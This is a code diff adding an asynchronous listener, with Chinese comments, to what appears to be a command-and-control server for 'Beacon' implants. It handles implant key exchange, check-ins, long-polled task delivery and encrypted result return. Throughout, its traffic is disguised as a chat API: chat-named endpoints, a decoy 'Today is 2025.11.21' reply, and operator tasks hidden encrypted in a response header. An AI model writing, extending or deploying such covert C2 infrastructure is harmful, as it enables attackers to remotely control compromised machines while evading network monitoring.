@@ -0,0 +1,272 @@
+# Beacon回连的异步监听器 (ASGI)
+# /api/chat/login 和 /api/chat/send 在事件循环里处理，通信格式和 api_routes.py 完全一致，
+# 其余的操作员/认证/AI 路由原样挂在 Flask 上，跑在线程池里。
+# 心跳在事件循环上处理；带结果回传的大消息交给线程池，免得压缩和写盘卡住事件循环。
+# 启动: python -m server.async_listener
+import asyncio
+import base64
+import json
+import logging
+import time
+from contextlib import asynccontextmanager
+from functools import wraps
+
+from a2wsgi import WSGIMiddleware
+from starlette.applications import Starlette
+from starlette.requests import Request
+from starlette.responses import JSONResponse
+from starlette.routing import Route, Mount
+
+from config import Config
+from server.app import create_app
+from server.core.metrics import CHECKINS, DECRYPT_FAILURES, HANDSHAKES, observe_request
+from server.persistence.async_database import init_async_db, get_async_db_session, shutdown_async_db
+from server.persistence.database import get_db_session
+from server.persistence.query_metrics import begin_scope, end_scope
+
+log = logging.getLogger(__name__)
+
+
+def get_beacon_ip(request: Request) -> str:
+    # 和 api_routes.get_beacon_ip 一样，优先使用 X-Forwarded-For
+    return request.headers.get('X-Forwarded-For', request.client.host if request.client else '')
+
+
+def timed_route(route: str):
+    """
+    和 Flask 的 after_request 钩子记同样的请求指标和 SQL 统计，蓝图名沿用 api_routes 的 chat_api。
+    """
+    def decorator(handler):
+        @wraps(handler)
+        async def wrapper(request: Request):
+            started = time.perf_counter()
+            token = begin_scope('http', route)
+            status = 500
+            try:
+                response = await handler(request)
+                status = response.status_code
+            finally:
+                stats = end_scope(token)
+                observe_request('chat_api', route, request.method, status, time.perf_counter() - started)
+            if stats is not None and Config.QUERY_STATS_HEADERS:
+                response.headers['X-DB-Queries'] = str(stats.count)
+                response.headers['X-DB-Time-Ms'] = f"{stats.seconds * 1000:.2f}"
+            return response
+        return wrapper
+    return decorator
+
+
+def create_asgi_app(flask_app=None) -> Starlette:
+    """
+    创建 ASGI 应用。服务实例 (加密、Beacon、任务) 直接复用 Flask 应用里的那一份，
+    这样内存任务队列和签入缓存在两边是共享的。
+    """
+    if flask_app is None:
+        flask_app = create_app()
+
+    crypto_mgr = flask_app.config['CRYPTO_MANAGER']
+    beacon_service = flask_app.config['BEACON_SERVICE']
+    task_service = flask_app.config['TASK_SERVICE']
+
+    init_async_db()
+
+    async def wait_for_task(request: Request, beacon_id: str, timeout: float) -> dict | None:
+        """
+        长轮询：挂起最多 timeout 秒，等该 Beacon 有任务入队就立即分配。
+        挂起期间只占一个协程，不占线程和数据库连接。
+        Beacon 断开了或者又发来了新的长轮询 (每个 Beacon 只留最新的一个) 就不再取任务，免得任务发给已经断掉的连接。
+        """
+        loop = asyncio.get_running_loop()
+        woken = asyncio.Event()
+
+        # 入队发生在 Flask 或调度器的线程里，要切回事件循环再 set
+        def notify():
+            loop.call_soon_threadsafe(woken.set)
+
+        task_service.task_queue.watch(beacon_id, notify)
+        try:
+            deadline = loop.time() + timeout
+            while True:
+                # 先清再查，查完之后入队的任务一定会再唤醒一次
+                woken.clear()
+                if not task_service.task_queue.is_watching(beacon_id, notify) or await request.is_disconnected():
+                    return None
+                if task_service.task_queue.has_pending(beacon_id):
+                    async with get_async_db_session() as db:
+                        next_task = await db.run_sync(lambda s: task_service.get_pending_task(s, beacon_id))
+                    if next_task:
+                        return next_task
+
+                remaining = deadline - loop.time()
+                if remaining <= 0:
+                    return None
+                try:
+                    await asyncio.wait_for(woken.wait(), min(remaining, Config.LONG_POLL_DISCONNECT_CHECK_SECONDS))
+                except asyncio.TimeoutError:
+                    pass
+        finally:
+            task_service.task_queue.unwatch(beacon_id, notify)
+
+    async def release_task(beacon_id: str, task: dict):
+        async with get_async_db_session() as db:
+            await db.run_sync(lambda s: task_service.release_task(s, beacon_id, task))
+
+    class TaskResponse(JSONResponse):
+        """
+        带着长轮询分配的任务的响应，发送失败就把任务放回队列。
+        """
+        def __init__(self, content, beacon_id: str, task: dict, **kwargs):
+            super().__init__(content, **kwargs)
+            self.beacon_id = beacon_id
+            self.task = task
+
+        async def __call__(self, scope, receive, send):
+            try:
+                await super().__call__(scope, receive, send)
+            except Exception:
+                await release_task(self.beacon_id, self.task)
+                raise
+
+    @timed_route('/api/chat/login')
+    async def initial_handshake(request: Request):
+        """
+        Beacon 首次签入，进行密钥协商和会话注册。
+        预期接收：{"hello": <公钥B64>, "user": "...", "password": "..."}
+        """
+        beacon_ip = get_beacon_ip(request)
+        try:
+            data = await request.json()
+
+            beacon_public_key_b64 = data.get('hello')
+            if not beacon_public_key_b64:
+                return JSONResponse({'error': 'Missing public key'}, status_code=401)
+
+            beacon_public_key = base64.b64decode(beacon_public_key_b64)
+            beacon_id = crypto_mgr.derive_session_key(
+                my_private=crypto_mgr.private, beacon_public_key=beacon_public_key
+            )
+
+            # 服务层是同步写法，通过 run_sync 在异步会话上复用
+            def register(db):
+                beacon_service.register_new_beacon(
+                    db=db,
+                    beacon_id=beacon_id,
+                    ip_address=beacon_ip,
+                    initial_data={'user': data.get('user'), 'hostname': 'N/A'}
+                )
+                beacon_service.update_checkin_time(db=db, beacon_id=beacon_id)
+
+            async with get_async_db_session() as db:
+                await db.run_sync(register)
+
+            server_public_key_b64 = base64.b64encode(crypto_mgr.get_publickey()).decode('utf-8')
+            HANDSHAKES.inc(labels=('ok',))
+
+            return JSONResponse({
+                'welcome': server_public_key_b64,
+                'user': data.get('user', 'Guest'),
+                'info': 'welcome for chat'
+            }, status_code=200)
+
+        except Exception as e:
+            HANDSHAKES.inc(labels=('error',))
+            log.exception("Handshake failed for %s: %s", beacon_ip, e, extra={"ip_address": beacon_ip})
+            return JSONResponse({'error': 'Internal server error'}, status_code=503)
+
+    @timed_route('/api/chat/send')
+    async def secure_communication(request: Request):
+        """
+        心跳和结果回传。带 ?wait=N 时是长轮询：没有任务就挂起最多 N 秒，
+        期间操作员一下发任务就立即返回，超时返回 interval 为 0 的 sleep，Beacon 马上再连。
+        """
+        try:
+            wait = min(max(float(request.query_params.get('wait', 0)), 0), Config.LONG_POLL_MAX_SECONDS)
+        except ValueError:
+            wait = 0
+
+        # 解密输入，请求体不是 JSON 对象时和 Flask 监听器一样返回 400
+        try:
+            payload = (await request.json()).get('auth', '')
+        except (ValueError, AttributeError):
+            return JSONResponse({'error': 'Malformed request body'}, status_code=400)
+        if not payload:
+            return JSONResponse({'error': 'Missing Authentication'}, status_code=400)
+        try:
+            plaintext_bytes, beacon_id = crypto_mgr.grimoire_decrypt(payload)
+        except Exception:
+            DECRYPT_FAILURES.inc()
+            return JSONResponse({'error': 'Decryption/Authentication failed'}, status_code=401)
+
+        CHECKINS.inc()
+
+        def process(db):
+            beacon_service.update_checkin_time(db=db, beacon_id=beacon_id)
+            return task_service.process_and_get_task(
+                db=db,
+                beacon_id=beacon_id,
+                plaintext_bytes=plaintext_bytes
+            )
+
+        if len(plaintext_bytes) > Config.ASYNC_INLINE_PAYLOAD_BYTES:
+            # 回传结果要解码、压缩、算哈希、写 blob store，放到线程池里用同步会话跑，
+            # 不然一个大结果会卡住事件循环上所有的心跳和挂起的长轮询
+            def process_in_thread():
+                with get_db_session() as db:
+                    return process(db)
+
+            response_data = await asyncio.to_thread(process_in_thread)
+        else:
+            # 普通心跳很轻，直接在异步会话上跑
+            async with get_async_db_session() as db:
+                response_data = await db.run_sync(process)
+
+        long_polled_task = None
+        if wait and response_data.get('command') == 'sleep':
+            long_polled_task = await wait_for_task(request, beacon_id, wait)
+            # 挂起期间 Beacon 断开了，写回去的响应服务器会直接丢掉，任务要放回队列
+            if long_polled_task and await request.is_disconnected():
+                await release_task(beacon_id, long_polled_task)
+                long_polled_task = None
+            response_data = long_polled_task if long_polled_task else {"command": "sleep", "interval": 0}
+
+        # 加密并返回
+        response_payload = json.dumps(response_data).encode('utf-8')
+        try:
+            encrypted_response = crypto_mgr.grimoire_encrypt(beacon_id, response_payload)
+            if long_polled_task:
+                return TaskResponse({'Answer': "Today is 2025.11.21"}, beacon_id, long_polled_task, status_code=200,
+                                    headers={'X-Data-Ref': encrypted_response})
+            return JSONResponse({'Answer': "Today is 2025.11.21"}, status_code=200,
+                                headers={'X-Data-Ref': encrypted_response})
+        except Exception as e:
+            log.exception("Encryption failed for %s: %s", beacon_id[:8], e, extra={"beacon_id": beacon_id})
+            if long_polled_task:
+                await release_task(beacon_id, long_polled_task)
+            return JSONResponse({'error': 'Internal encryption error'}, status_code=500)
+
+    routes = [
+        Route('/api/chat/login', initial_handshake, methods=['POST']),
+        Route('/api/chat/send', secure_communication, methods=['POST']),
+        # 其他路由交给 Flask
+        Mount('/', app=WSGIMiddleware(flask_app)),
+    ]
+
+    @asynccontextmanager
+    async def lifespan(app):
+        yield
+        await shutdown_async_db()
+
+    return Starlette(routes=routes, lifespan=lifespan)
+
+
+if __name__ == '__main__':
+    import uvicorn
+
+    asgi_app = create_asgi_app()
+
+    print("-" * 50)
+    print(f"{Config.PROJECT_NAME} Async Listener")
+    print(f"Listening on: http://{Config.ASYNC_LISTENER_HOST}:{Config.ASYNC_LISTENER_PORT}")
+    print("-" * 50)
+
+    uvicorn.run(asgi_app, host=Config.ASYNC_LISTENER_HOST, port=Config.ASYNC_LISTENER_PORT)